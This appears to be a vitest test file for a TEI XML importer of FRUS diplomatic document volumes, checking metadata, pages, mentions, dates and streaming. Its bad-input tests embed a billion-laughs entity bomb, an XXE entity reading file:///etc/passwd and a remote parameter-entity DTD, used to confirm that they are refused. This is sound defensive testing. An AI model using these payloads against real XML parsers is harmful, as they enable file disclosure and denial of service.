import fs from 'node:fs';
import path from 'node:path';
import { describe, it, expect } from 'vitest';
import {
  teiImporter,
  teiStreamingImporter,
  naturalOrder,
  normalise,
  parseTei,
  parseWhen,
  kindFromHeading,
  kindFromSourceNote,
  streamTei,
  utf8Volume,
} from './tei.js';
import { importers, streamingImporters } from './registry.js';
import type { ImportedDocument, ImportEvent, ImportResult } from './importer.js';
import { isDeclassError } from '../../shared/errors.js';

const repoRoot = path.resolve(import.meta.dirname, '..', '..', '..');
const fixtures = path.join(repoRoot, 'test', 'fixtures', 'tei');
const corpus = process.env.DECLASS_CORPUS ? path.resolve(process.env.DECLASS_CORPUS) : path.resolve(repoRoot, '..', 'shared', 'corpus');

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

function run(bytes: Buffer | string, filePath = '/tmp/example.xml'): Promise<ImportResult> {
  const buf = typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : bytes;
  return teiImporter({ bytes: buf, path: filePath, name: path.basename(filePath) });
}

async function fixture(name: string): Promise<ImportResult> {
  const p = path.join(fixtures, name);
  return run(fs.readFileSync(p), p);
}

async function rejection(p: Promise<unknown>): Promise<{ code: string; message: string }> {
  try {
    await p;
  } catch (err) {
    if (isDeclassError(err)) return { code: err.code, message: err.message };
    throw err;
  }
  throw new Error('expected a rejection');
}

const byKey = (r: ImportResult, key: string): ImportedDocument => {
  const d = r.documents.find((x) => x.sourceKey === key);
  if (!d) throw new Error(`no document ${key}`);
  return d;
};

/** Every mention's span must cut exactly its text out of its page. */
function expectSpansConsistent(docs: ImportedDocument[]) {
  for (const d of docs) {
    for (const m of d.mentions) {
      const page = d.pages[(m.pageNo ?? 0) - 1];
      expect(page, `${d.sourceKey} page ${m.pageNo}`).toBeDefined();
      expect(page?.text.slice(m.spanStart ?? 0, m.spanEnd ?? 0)).toBe(m.text);
    }
  }
}

describe('teiImporter on an example volume', () => {
  it('is registered as tei', () => {
    expect(importers.tei).toBe(teiImporter);
  });

  it('reads the volume as a collection', async () => {
    const r = await fixture('example-volume.xml');
    expect(r.format).toBe('tei');
    expect(r.collection).toEqual({
      slug: 'frusExample01',
      title: 'Example Relations of Nowhere, Volume I',
      kind: 'volume',
      agency: 'U.S. Department of State, Office of the Historian',
      releaseDate: '1999',
    });
  });

  it('reads the persons list as entities and skips other authority lists', async () => {
    const r = await fixture('example-volume.xml');
    expect(r.entities).toEqual([
      {
        kind: 'person',
        name: 'Doe, Alice Q.',
        authorityKey: 'frusExample01#p_DA1',
        variants: ['Alice Q. Doe'],
        description: 'Ambassador in Nowhere.',
      },
      {
        kind: 'person',
        name: 'Roe, Bertram, Baron',
        authorityKey: 'frusExample01#p_RB1',
        variants: ['Baron Bertram Roe'],
        description: 'Minister of Imaginary Affairs.',
      },
    ]);
  });

  it('keeps document order and ids', async () => {
    const r = await fixture('example-volume.xml');
    expect(r.documents.map((d) => d.preferredId)).toEqual([
      'frusExample01-d1',
      'frusExample01-d2',
      'frusExample01-d3',
      'frusExample01-d4',
      'frusExample01-d5',
    ]);
    expect(r.documents.map((d) => d.sourceKey)).toEqual(['d1', 'd2', 'd3', 'd4', 'd5']);
    expect(r.documents.every((d) => !d.needsOcr && d.pages.every((p) => p.textSource === 'source'))).toBe(true);
  });

  it('states the fields of a telegram', async () => {
    const d1 = byKey(await fixture('example-volume.xml'), 'd1');
    expect(d1.title).toBe('The Secretary of State to the Ambassador in Nowhere (Doe)');
    expect(d1.fields).toEqual({
      volume_id: 'frusExample01',
      source_id: 'd1',
      number: '1',
      heading: 'The Secretary of State to the Ambassador in Nowhere (Doe)',
      // The chapter's heading, without its footnote.
      sections: ['Chapter I. Examples'],
      source_notes: ['File No. 000.00/1', '[Telegram]'],
      type: 'telegram',
      date: { start: '1917-04-03', end: '1917-04-03', precision: 'day', text: 'April 3, 1917, 6 p.m.', time: '18:00' },
      dateline_place: 'Washington',
      from: [{ name: 'Secretary of State' }],
      to: [{ name: 'Alice Q. Doe' }],
    });
  });

  it('splits pages at pb, carries the page across documents and puts footnotes at the end of their page', async () => {
    const r = await fixture('example-volume.xml');
    const d1 = byKey(r, 'd1');
    expect(d1.pages.map((p) => p.label)).toEqual(['1', '2']);
    expect(d1.pages[0]?.text).toBe(
      [
        'File No. 000.00/1',
        'The Secretary of State to the Ambassador in Nowhere (Doe)',
        '[Telegram]',
        'Washington, April 3, 1917, 6 p.m.',
        'First paragraph of the example.',
        'Second paragraph mentions Baron Roe and continues',
        '[2] Also sent to Roe.',
      ].join('\n\n'),
    );
    expect(d1.pages[1]?.text).toBe('on the next page.\n\nExample Signer');
    // d2 starts on the page d1 ended on; d3 after a pb between documents.
    expect(byKey(r, 'd2').pages.map((p) => p.label)).toEqual(['2']);
    expect(byKey(r, 'd3').pages.map((p) => p.label)).toEqual(['3']);
  });

  it('renders tables with tabs and labelled list items on one line', async () => {
    const d2 = byKey(await fixture('example-volume.xml'), 'd2');
    expect(d2.pages[0]?.text).toContain('Item\tAmount\nApples\t12');
    expect(d2.pages[0]?.text).toContain('(a) First\n(b) Second');
  });

  it('records mentions with authority keys and exact spans', async () => {
    const r = await fixture('example-volume.xml');
    const d1 = byKey(r, 'd1');
    expect(d1.mentions.map((m) => [m.kind, m.text, m.authorityKey, m.pageNo])).toEqual([
      ['person', 'Doe', 'frusExample01#p_DA1', 1],
      ['person', 'Roe', 'frusExample01#p_RB1', 1],
      ['place', 'Washington', null, 1],
      ['person', 'Baron Roe', 'frusExample01#p_RB1', 1],
      ['person', 'Example Signer', null, 2],
    ]);
    expectSpansConsistent(r.documents);
  });

  it('reads from/to with unresolved names, month dates and a stated telegram in a file note', async () => {
    const d2 = byKey(await fixture('example-volume.xml'), 'd2');
    expect(d2.fields.from).toEqual([{ name: 'Alice Q. Doe' }]);
    expect(d2.fields.to).toEqual([{ name: 'Secretary of State' }, { name: 'Someone Else' }]);
    expect(d2.fields.date).toEqual({ start: '1917-05-01', end: '1917-05-31', precision: 'month', text: 'May 1917' });
    expect(d2.fields.dateline_place).toBe('Nowhere City');
    expect(d2.fields.type).toBe('telegram');
  });

  it('reads ranges and memorandum headings', async () => {
    const d3 = byKey(await fixture('example-volume.xml'), 'd3');
    expect(d3.fields.date).toEqual({ start: '1917-02-01', end: '1917-03-15', precision: 'range', text: 'February–March 15, 1917' });
    expect(d3.fields.type).toBe('memorandum_of_conversation');
    expect(d3.fields.from).toBeUndefined();
  });

  it('leaves type unset for an unbracketed "X to Y" heading and falls back to an attachment dateline', async () => {
    const r = await fixture('example-volume.xml');
    const d4 = byKey(r, 'd4');
    expect(d4.fields.type).toBeUndefined();
    expect(d4.fields.date).toEqual({ start: '1916-01-01', end: '1916-12-31', precision: 'year', text: '1916' });
    expect(d4.fields.source_notes).toEqual(['File No. 000.00/4', '[Enclosure—Memorandum]']);
    const d5 = byKey(r, 'd5');
    expect(d5.fields.date).toBeUndefined();
    expect(d5.fields.dateline_place).toBeUndefined();
    expect(d5.fields.source_notes).toBeUndefined();
  });

  it('records the headings of the divisions each document is printed under, outermost first', async () => {
    const xml = `<?xml version="1.0"?>
<TEI xml:id="v"><text><body>
  <div type="compilation"><head>Russia<lb/>Economic Relations</head>
    <div type="chapter"><head>Chapter I. Loans</head>
      <div type="subchapter"><head>Offer of a credit<note n="1">A footnote.</note></head>
        <div type="document" xml:id="d1"><head>A to B</head><p>One.</p></div>
      </div>
      <div type="document" xml:id="d2"><head>C to D</head><p>Two.</p></div>
    </div>
    <div type="chapter"><head>Chapter II. Currency</head>
      <div type="document" xml:id="d3"><head>E to F</head><p>Three.</p></div>
    </div>
  </div>
  <div type="document" xml:id="d4"><head>G to H</head><p>Four.</p></div>
</body></text></TEI>`;
    const r = await run(xml);
    expect(r.documents.map((d) => d.fields.sections)).toEqual([
      ['Russia Economic Relations', 'Chapter I. Loans', 'Offer of a credit'],
      ['Russia Economic Relations', 'Chapter I. Loans'],
      ['Russia Economic Relations', 'Chapter II. Currency'],
      undefined,
    ]);
    // A document's own heading is its title, not a section.
    expect(r.documents.map((d) => d.title)).toEqual(['A to B', 'C to D', 'E to F', 'G to H']);
  });

  it('accepts a UTF-8 BOM', async () => {
    const p = path.join(fixtures, 'example-volume.xml');
    const r = await run(Buffer.concat([BOM, fs.readFileSync(p)]), p);
    expect(r.documents).toHaveLength(5);
  });
});

describe('teiImporter on bad input', () => {
  it('refuses XML that is not well-formed, naming the file, line and column', async () => {
    const xml = '<?xml version="1.0"?>\n<TEI xml:id="x">\n<text><body><div type="document" xml:id="d1"><p>open</div></body></text></TEI>';
    const e = await rejection(run(xml, '/data/broken.xml'));
    expect(e.code).toBe('ingest.malformed_xml');
    expect(e.message).toContain('/data/broken.xml');
    expect(e.message).toMatch(/line 3, column \d+/);
  });

  it('refuses a truncated file', async () => {
    const p = path.join(fixtures, 'example-volume.xml');
    const text = fs.readFileSync(p, 'utf8');
    const e = await rejection(run(text.slice(0, text.length / 2), '/data/truncated.xml'));
    expect(e.code).toBe('ingest.malformed_xml');
    expect(e.message).toContain('/data/truncated.xml');
  });

  it('refuses the billion laughs without expanding anything', async () => {
    const decls = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) decls.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE TEI [\n${decls.join('\n')}\n]>\n<TEI xml:id="x"><text><body><div type="document" xml:id="d1"><p>&lol9;</p></div></body></text></TEI>`;
    const before = process.memoryUsage().heapUsed;
    const e = await rejection(run(xml, '/data/laughs.xml'));
    const grown = process.memoryUsage().heapUsed - before;
    expect(e.code).toBe('ingest.forbidden_xml');
    expect(e.message).toContain('/data/laughs.xml');
    expect(grown).toBeLessThan(50 * 1024 * 1024);
  });

  it('refuses external entities and never reads the file they name', async () => {
    const xml =
      '<?xml version="1.0"?>\n<!DOCTYPE TEI [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n' +
      '<TEI xml:id="x"><text><body><div type="document" xml:id="d1"><head>&xxe;</head><p>&xxe;</p></div></body></text></TEI>';
    let caught: unknown;
    try {
      await run(xml, '/data/xxe.xml');
    } catch (err) {
      caught = err;
    }
    expect(isDeclassError(caught) && caught.code).toBe('ingest.forbidden_xml');
    const message = caught instanceof Error ? caught.message : '';
    expect(message).toContain('/data/xxe.xml');
    expect(message).not.toMatch(/root:|\/bin\/(ba)?sh/);
    expect(JSON.stringify(caught)).not.toMatch(/root:x:0/);
  });

  it('refuses parameter entities too', async () => {
    const xml =
      '<?xml version="1.0"?>\n<!DOCTYPE TEI [ <!ENTITY % ext SYSTEM "http://example.invalid/evil.dtd"> %ext; ]>\n<TEI xml:id="x"/>';
    expect((await rejection(run(xml, '/data/param.xml'))).code).toBe('ingest.forbidden_xml');
  });

  it('treats an undeclared entity as malformed, not as text', async () => {
    const xml =
      '<?xml version="1.0"?>\n<TEI xml:id="x"><text><body><div type="document" xml:id="d1"><p>&nbsp;</p></div></body></text></TEI>';
    const e = await rejection(run(xml, '/data/undeclared.xml'));
    expect(e.code).toBe('ingest.malformed_xml');
    expect(e.message).toContain('/data/undeclared.xml');
  });

  it('refuses a TEI file without document divs', async () => {
    const p = path.join(fixtures, 'no-documents.xml');
    const e = await rejection(run(fs.readFileSync(p), p));
    expect(e.code).toBe('ingest.no_documents');
    expect(e.message).toContain(p);
  });

  it('refuses XML whose root is not TEI', async () => {
    const e = await rejection(run('<?xml version="1.0"?><html><body/></html>', '/data/other.xml'));
    expect(e.code).toBe('ingest.unsupported_format');
    expect(e.message).toContain('/data/other.xml');
  });
});

describe('streamTei', () => {
  /** A volume of `n` documents naming a person of the persons list, which sits before or after them. */
  const volume = (n: number, personsAfter = false, tail = '</body></text></TEI>') => {
    const persons = `<div type="section" xml:id="persons"><list><item><persName xml:id="p_DA1">Doe, Alice Q.</persName>, Ambassador.</item></list></div>`;
    const docs = Array.from(
      { length: n },
      (_, i) => `<div type="document" xml:id="d${i + 1}" n="${i + 1}">
  <head>The Secretary of State to the Ambassador (<persName type="to" corresp="#p_DA1">Doe</persName>) ${i + 1}</head>
  <dateline><placeName>Washington</placeName>, <date when="1918-01-02">January 2, 1918</date>.</dateline>
  <p>Paragraph ${i + 1} of an example written for this test, naming <persName corresp="#p_DA1">Doe</persName>.${' Filler text.'.repeat(40)}</p>
</div>`,
    ).join('\n');
    return `<?xml version="1.0"?>
<TEI xml:id="frusTest01"><teiHeader><fileDesc><titleStmt><title type="complete">Test Volume (fictional)</title></titleStmt></fileDesc></teiHeader>
<text>${personsAfter ? '' : `<front>${persons}</front>`}<body>${docs}</body>${personsAfter ? `<back>${persons}</back>` : ''}${tail.replace('</body>', '')}`;
  };
  const pull = (xml: string) => streamTei(xml, '/tmp/test.xml', 'test.xml')[Symbol.iterator]();

  it('hands over the head, then documents while the rest of the volume is still unread', () => {
    // Broken near its end: the first documents arrive before the parser gets there.
    const events = pull(volume(200, false, '</body></text><oops></TEI>'));
    const first = events.next().value as ImportEvent;
    expect('head' in first && first.head.collection?.title).toBe('Test Volume (fictional)');
    expect('head' in first && first.head.entities.map((e) => e.authorityKey)).toEqual(['frusTest01#p_DA1']);
    const second = events.next().value as ImportEvent;
    expect('document' in second && second.document.sourceKey).toBe('d1');
    expect('document' in second && second.document.fields.to).toEqual([{ name: 'Alice Q. Doe' }]);
    let read = 1;
    expect(() => {
      for (const e of { [Symbol.iterator]: () => events }) if ('document' in e) read++;
    }).toThrow(/not well-formed XML/);
    expect(read).toBeGreaterThan(1);
    expect(read).toBeLessThan(200);
  });

  it('holds documents back until a persons list that follows them has been read', () => {
    const xml = volume(30, true);
    const r = parseTei(xml, '/tmp/test.xml', 'test.xml');
    expect(r.documents).toHaveLength(30);
    expect(r.entities.map((e) => e.authorityKey)).toEqual(['frusTest01#p_DA1']);
    for (const d of r.documents) {
      expect(d.fields.to).toEqual([{ name: 'Alice Q. Doe' }]);
      expect(d.mentions.find((m) => m.text === 'Doe')?.authorityKey).toBe('frusTest01#p_DA1');
    }
  });

  it('reads a volume the same whole or streamed, with Windows line ends or not', async () => {
    const xml = volume(120);
    const whole = await run(xml);
    const events = [
      ...teiStreamingImporter({ bytes: Buffer.from(xml.replace(/\n/g, '\r\n')), path: '/tmp/example.xml', name: 'example.xml' }),
    ];
    const { documents, ...head } = whole;
    expect(events[0]).toEqual({ head });
    expect(events.slice(1)).toEqual(documents.map((document) => ({ document })));
  });

  it('reads UTF-8 a piece at a time exactly as the whole text: a mark, quotes and astral characters across pieces', () => {
    const stream = (bytes: Buffer) => [...teiStreamingImporter({ bytes, path: '/tmp/example.xml', name: 'example.xml' })];
    const asWhole = (xml: string) => [...streamTei(xml, '/tmp/example.xml', 'example.xml')];
    const quoted = volume(150).replaceAll('Filler text.', 'Filler “text” — 𝔉𝔦𝔩𝔩𝔢𝔯 \ufeff.');
    const cases: [string, Buffer][] = [
      [volume(120), Buffer.from(volume(120))],
      // A byte-order mark starts the file; one inside the text stays a character.
      [quoted, Buffer.concat([BOM, Buffer.from(quoted)])],
      // The persons list after the documents, and one named through a character reference.
      [volume(60, true), Buffer.from(volume(60, true))],
      [
        volume(80).replace('xml:id="persons"', 'xml:id="p&#x65;rsons"'),
        Buffer.from(volume(80).replace('xml:id="persons"', 'xml:id="p&#x65;rsons"')),
      ],
    ];
    for (const [xml, bytes] of cases) {
      expect(utf8Volume(bytes)).not.toBeNull(); // read in pieces, not whole
      expect(stream(bytes)).toEqual(asWhole(xml));
    }
    // Every piece of the multibyte case is a short string, cut between characters (no lone surrogate, no U+FFFD).
    const pieces = [...utf8Volume(Buffer.from(quoted))!.pieces()];
    expect(pieces.length).toBeGreaterThan(3);
    expect(pieces.join('')).toBe(quoted);
    expect(pieces.every((p) => p.length <= 1 << 15 && !p.includes('\ufffd'))).toBe(true);
  });

  it('reads a volume whole where it is not plain UTF-8 text, with the same result or error as before', async () => {
    const xml = volume(120);
    // Windows-1252 (a curly quote as one byte), a control character, UTF-16: `decodeText` reads these whole.
    const cp1252 = Buffer.from(xml.replace('Filler text.', 'Filler \u0092text.'), 'latin1');
    const control = Buffer.from(xml.replace('Filler text.', 'Filler \u0001text.'));
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]);
    for (const bytes of [cp1252, control, utf16]) {
      expect(utf8Volume(bytes)).toBeNull();
      const streamed = (() => {
        try {
          return { events: [...teiStreamingImporter({ bytes, path: '/tmp/example.xml', name: 'example.xml' })] };
        } catch (err) {
          return { code: (err as { code?: string }).code };
        }
      })();
      const whole = await run(bytes).then(
        ({ documents, ...head }) => ({ events: [{ head }, ...documents.map((document) => ({ document }))] }),
        (err: { code?: string }) => ({ code: err.code }),
      );
      expect(streamed).toEqual(whole);
    }
  });

  it('is the registered streaming importer for tei', () => {
    expect(streamingImporters.tei).toBe(teiStreamingImporter);
  });

  it('collapses whitespace as /\\s+/g and trim do', () => {
    const samples = ['a b', ' a  b ', 'a\nb', 'a \n\t b', '\u00a0a\u2009 b\u00a0', '', '   ', 'a\r\nb', 'word', ' x', 'x ', 'a \u00a0b'];
    // Every \s character of JavaScript and some that are not, in every position.
    const spaces = [...Array.from({ length: 0x3001 }, (_, c) => String.fromCharCode(c)), '\ufeff', '\ufffe'].filter(
      (c) => /\s/.test(c) || c === 'x' || c === '\u200b' || c === '\u0085',
    );
    for (const c of spaces) samples.push(`${c}a`, `a${c}`, `a${c}b`, `a ${c}b`, `a${c} b`, `${c}${c}`, ` ${c} a ${c} `);
    for (const s of samples) expect(normalise(s), JSON.stringify(s)).toBe(s.replace(/\s+/g, ' ').trim());
  });
});

describe('helpers', () => {
  it('orders names naturally', () => {
    expect(naturalOrder('Francis, David R.')).toBe('David R. Francis');
    expect(naturalOrder('Mirbach, Wilhelm, Count von')).toBe('Count Wilhelm von Mirbach');
    expect(naturalOrder('Uchida, Viscount, Yasuya')).toBe('Viscount Yasuya Uchida');
    expect(naturalOrder('Smith, John, Jr.')).toBe('John Smith, Jr.');
    expect(naturalOrder('Nicholas II')).toBeNull();
  });

  it('parses TEI dates with proper month and year ends', () => {
    expect(parseWhen('1916-02')).toEqual({ start: '1916-02-01', end: '1916-02-29', precision: 'month' });
    expect(parseWhen('1917-02')).toEqual({ start: '1917-02-01', end: '1917-02-28', precision: 'month' });
    expect(parseWhen('1900-02')?.end).toBe('1900-02-28');
    expect(parseWhen('1918')).toEqual({ start: '1918-01-01', end: '1918-12-31', precision: 'year' });
    expect(parseWhen('1918-11-15T18:41:00')).toEqual({ start: '1918-11-15', end: '1918-11-15', precision: 'day', time: '18:41' });
    expect(parseWhen('1918-02-30')).toBeNull();
    expect(parseWhen('yesterday')).toBeNull();
  });

  it('maps stated kinds only', () => {
    expect(kindFromSourceNote('[Telegram]')).toBe('telegram');
    expect(kindFromSourceNote('[Telegram—Extract]')).toBe('telegram');
    expect(kindFromSourceNote('[Paraphrase]')).toBeNull();
    expect(kindFromSourceNote('[Aide-Mémoire—Extract]')).toBe('note');
    expect(kindFromSourceNote('[Subenclosure 1—Memorandum]')).toBe('memorandum');
    expect(kindFromSourceNote('763.72119/2580: Telegram')).toBe('telegram');
    expect(kindFromSourceNote('File No. 861.51/131')).toBeNull();
    expect(kindFromHeading('Memorandum by the Secretary of State')).toBe('memorandum');
    expect(kindFromHeading('Memorandum by the Assistant Secretary (White) of a Telephone Conversation With Mr. X')).toBe(
      'telephone_conversation',
    );
    expect(kindFromHeading('Minutes of the Daily Meetings')).toBe('minutes');
    expect(kindFromHeading('Press Release Issued by the Department of State')).toBe('other');
    expect(kindFromHeading('The Secretary of State to the Ambassador in Russia (Francis)')).toBeNull();
    expect(kindFromHeading('Note on the Agreement for an Association of Nations')).toBeNull();
  });
});

// ---------------------------------------------------------------------------
// The real FRUS volumes (skipped when the shared corpus is absent)

const russia = path.join(corpus, 'frus-tei', 'frus1918Russiav03.xml');
const paris = path.join(corpus, 'frus-tei', 'frus1919Parisv01.xml');
const moreDir = path.join(corpus, 'frus-tei-more');
const haveCorpus = fs.existsSync(russia) && fs.existsSync(paris);
const corpusReason = `FRUS TEI corpus not found at ${corpus} (set DECLASS_CORPUS)`;

describe('teiImporter on the FRUS corpus', () => {
  const cache = new Map<string, Promise<ImportResult>>();
  const load = (p: string) => {
    let r = cache.get(p);
    if (!r) {
      r = run(fs.readFileSync(p), p);
      cache.set(p, r);
    }
    return r;
  };

  it.skipIf(!haveCorpus)(`reads 478 documents of frus1918Russiav03, in order (${corpusReason} when skipped)`, async () => {
    const r = await load(russia);
    expect(r.documents).toHaveLength(478);
    expect(r.documents.map((d) => d.sourceKey)).toEqual(Array.from({ length: 478 }, (_, i) => `d${i + 1}`));
    expect(r.collection?.slug).toBe('frus1918Russiav03');
    expect(r.collection?.title).toBe('Papers Relating to the Foreign Relations of the United States, 1918, Russia, Volume III');
    expect(r.collection?.releaseDate).toBe('1932');
    expect(r.documents.filter((d) => d.fields.date).length).toBe(459);
  });

  it.skipIf(!haveCorpus)('states the fields of frus1918Russiav03 d1', async () => {
    const r = await load(russia);
    const d1 = byKey(r, 'd1');
    expect(d1.preferredId).toBe('frus1918Russiav03-d1');
    expect(d1.fields.date).toMatchObject({ start: '1917-04-03', end: '1917-04-03', precision: 'day', time: '18:00' });
    expect(d1.fields.dateline_place).toBe('Washington');
    expect(d1.fields.from).toEqual([{ name: 'Secretary of State' }]);
    expect(d1.fields.to).toEqual([{ name: 'David R. Francis' }]);
    expect(d1.fields.type).toBe('telegram');
    expect(d1.pages[0]?.label).toBe('1');
    const francis = r.entities.find((e) => e.authorityKey === 'frus1918Russiav03#p_FDR1');
    expect(francis).toMatchObject({ name: 'Francis, David R.', variants: ['David R. Francis'], description: 'Ambassador in Russia.' });
    expect(d1.mentions.find((m) => m.text === 'Francis')?.authorityKey).toBe('frus1918Russiav03#p_FDR1');
  });

  it.skipIf(!haveCorpus)('labels pages and splits documents across page breaks', async () => {
    const r = await load(russia);
    const d2 = byKey(r, 'd2');
    expect(d2.pages.map((p) => p.label)).toEqual(['2', '3']);
    expect(d2.pages[1]?.text.startsWith('would be absolutely safe.')).toBe(true);
    const labelled = r.documents.flatMap((d) => d.pages).filter((p) => p.label !== null).length;
    const total = r.documents.flatMap((d) => d.pages).length;
    expect(labelled).toBe(total);
    expectSpansConsistent(r.documents);
  });

  it.skipIf(!haveCorpus)('reads 409 documents of frus1919Parisv01', async () => {
    const r = await load(paris);
    expect(r.documents).toHaveLength(409);
    expect(r.documents.map((d) => d.sourceKey)).toEqual(Array.from({ length: 409 }, (_, i) => `d${i + 1}`));
    expect(r.documents.filter((d) => d.fields.date).length).toBe(372);
    expect(r.entities.length).toBeGreaterThan(100);
    expectSpansConsistent(r.documents);
  });

  const moreCounts: Record<string, number> = {
    'frus1927v01.xml': 415,
    'frus1930v01.xml': 576,
    'frus1934v04.xml': 702,
    'frus1934v05.xml': 639,
  };
  for (const [file, count] of Object.entries(moreCounts)) {
    const p = path.join(moreDir, file);
    it.skipIf(!fs.existsSync(p))(`reads ${count} documents of ${file}`, async () => {
      const r = await load(p);
      expect(r.documents).toHaveLength(count);
      expect(r.entities).toEqual([]);
      expectSpansConsistent(r.documents);
    });
  }

  it.skipIf(!haveCorpus)('parses all six volumes quickly', async () => {
    const files = [russia, paris, ...Object.keys(moreCounts).map((f) => path.join(moreDir, f))].filter((f) => fs.existsSync(f));
    const bytes = files.map((f) => fs.readFileSync(f));
    const t0 = performance.now();
    let docs = 0;
    for (let i = 0; i < files.length; i++) docs += (await run(bytes[i] ?? Buffer.alloc(0), files[i])).documents.length;
    const seconds = (performance.now() - t0) / 1000;
    console.log(`TEI parse: ${docs} documents in ${seconds.toFixed(2)} s = ${Math.round(docs / seconds)} docs/s`);
    // Generous bound for shared CI machines; see the report for the measured rate.
    expect(docs / seconds).toBeGreaterThan(2000);
  });
});
